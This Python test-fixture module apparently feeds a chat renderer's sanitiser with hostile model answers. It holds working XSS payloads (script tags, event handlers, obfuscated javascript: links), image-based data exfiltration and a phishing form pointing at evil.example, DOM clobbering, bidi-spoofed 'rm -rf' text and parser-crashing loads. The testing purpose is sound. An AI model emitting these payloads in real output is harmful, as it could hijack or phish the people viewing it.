"""Answers that a hostile model, or whoever wrote what it read, would have a browser run."""

RUN = "window.hurt=1"
URL = "https://evil.example/x"
#: Markup that runs in a page which lets it through.
MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={URL}.js></SCRIPT>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'<img src="{URL}.png?stolen">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action='{URL}'><button>Sign in again</button></form>",
    f"<form id=ask><input name=message></form><base href='{URL}'>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<meta http-equiv=refresh content='0;url={URL}'>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    f"<link rel=stylesheet href='{URL}.css'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    "<p id=log name=ask>clobbered</p>",
    "<a id=chat href=x>clobbered</a>",
    "</div></div></main></body></html>gone",
)
#: Markdown that becomes such markup in a careless reader.
LINKS = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](vbscript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5odXJ0PC9zY3JpcHQ+)",
    f"[x](\x01javascript:{RUN})",
    f"<javascript:{RUN}>",
    f'[x]({URL} "\\" onmouseover={RUN} x=\\"")',
    f"![x]({URL}.png?stolen)",
    f"![x](javascript:{RUN})",
    f"![x](data:image/svg+xml,<svg/onload={RUN}>)",
    f"[a]: javascript:{RUN}\n\n[x][a]",
    "[log out](/logout)",
    "[x](//evil.example/x)",
    "[x](blob:https://evil.example/x)",
    "[x](file:///etc/passwd)",
)
#: What is no attack by itself, but a load.
LOADS = (
    f'```html" onmouseover={RUN}\n<script>{RUN}</script>\n```',
    f"```\n</code></pre><script>{RUN}</script>",
    f"`<script>{RUN}</script>`",
    "|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n" + ("|" + "b|" * 200 + "\n") * 20,
    "|a|b|\n|:-:|--:|\n|x|y|",
    ">" * 500 + " deep",
    "- " * 300 + "deep",
    "[" * 2_000 + "](" * 2_000,
    "*" * 5_000 + "_" * 5_000,
    "#" * 100 + " no heading",
    "a" * 20_000,
    "\u202eexe.txt\u202c \u2066mixed\u2069 \u200f\u200e",
    "if\u202e access\u2066 // check\u2069 \u2066",
    "\ufeff\u0000\u0007\ud83d",
    "e" + "\u0301" * 500,
    "&lt;script&gt;&#60;script&#62;&NotAnEntity;",
    "1. x\n999999999999. y",
    "~~~\nnever closed",
    "$$\\href{javascript:" + RUN + "}{x}$$",
    "[^1]: foot\n\n[^1]",
)
#: Handlers that a browser calls by itself, or when somebody is near.
HANDLED = (
    *(f"<{tag} onerror={RUN} src=x>" for tag in ("audio", "video", "source", "embed", "script")),
    *(f"<{tag} onfocus={RUN} tabindex=1 autofocus>x" for tag in ("a", "b", "select", "keygen")),
    *(
        f"<p {handler}={RUN}>x</p>"
        for handler in (
            *("onclick", "onmouseover", "onmouseenter", "onpointerover", "onwheel", "onscroll"),
            *(
                "oncopy",
                "onpaste",
                "ondrag",
                "onanimationstart",
                "ontransitionend",
                "onbeforetoggle",
            ),
            *("oncontentvisibilityautostatechange", "onauxclick", "onbeforeinput", "onscrollend"),
        )
    ),
    *(
        f"<svg><{tag} {handler}={RUN} attributeName=x dur=1s />"
        for tag in ("set", "animate", "animateTransform", "discard")
        for handler in ("onbegin", "onend", "onrepeat")
    ),
)
#: Ways to write an address that is a program, in each form that Markdown has for one.
SCHEMES = (
    *("javascript:", "JAVASCRIPT:", "javascript&#58;", "javascript&#x3A;", "&#x6A;avascript:"),
    *(
        "java&Tab;script:",
        "java&NewLine;script:",
        "%6Aavascript:",
        "javascript%3A",
        "\u202ejavascript:",
    ),
    *("livescript:", "data:text/html,", "data:image/svg+xml,", "view-source:javascript:"),
    *("jar:javascript:", "feed:javascript:", "about:blank#", "filesystem:https://evil.example/"),
)
FORMS = ("[x]({})", "[x](<{}>)", "[a]: {}\n\n[x][a]", "![x]({})")
ADDRESSES = tuple(form.format(one + RUN) for one in SCHEMES for form in FORMS)
#: Places in Markdown where markup may stand.
PLACES = (
    "> {}",
    "- {}",
    "| a |\n|---|\n| {} |",
    "# {}",
    "[{}](https://x.example)",
    "**{}**",
    "`a` {} `b`",
)
INSIDE = tuple(
    place.format(one)
    for one in (f"<img src=x onerror={RUN}>", f"<script>{RUN}</script>", f"<svg/onload={RUN}>")
    for place in PLACES
)
#: What turns the order of letters about, or hides some, one by one.
TURNED = tuple(
    f"pay {one}gnp.exe[x](https://x.example/{one}a){one} `rm{one} -rf`"
    for one in (
        "\u061c\u200b\u200e\u200f\u202a\u202b\u202c"
        "\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff\u00ad"
    )
)
#: Markdown that stops in the middle.
BROKEN = (
    *(
        "[x](",
        "![",
        "[x]: ",
        "| a |\n|--",
        "```js\n",
        "**_`",
        "<",
        "</",
        "<!--",
        "<![CDATA[",
        "&#",
        "&#x",
    ),
    *(
        "\\",
        "> > >",
        "1.",
        "- [ ",
        "~~",
        "<a href='",
        '<img src="',
        "<svg><style>",
        "\u0000",
        "\n" * 500,
    ),
)
#: Tables and lists as large as an answer gets.
HUGE = (
    "|" + "c|" * 2_000 + "\n|" + "-|" * 2_000 + "\n|" + "x|" * 2_000,
    "| a | b |\n|---|---|\n" + "| x | y |\n" * 2_000,
    "\n".join(f"{number}. x" for number in range(2_000)),
    "\n".join("  " * (number % 40) + "- x" for number in range(2_000)),
    "[x](https://x.example) " * 2_000,
    "`a` " * 3_000,
)
ANSWERS = (
    *(*MARKUP, *LINKS, *LOADS),
    *(*HANDLED, *ADDRESSES, *INSIDE, *TURNED, *BROKEN, *HUGE),
)
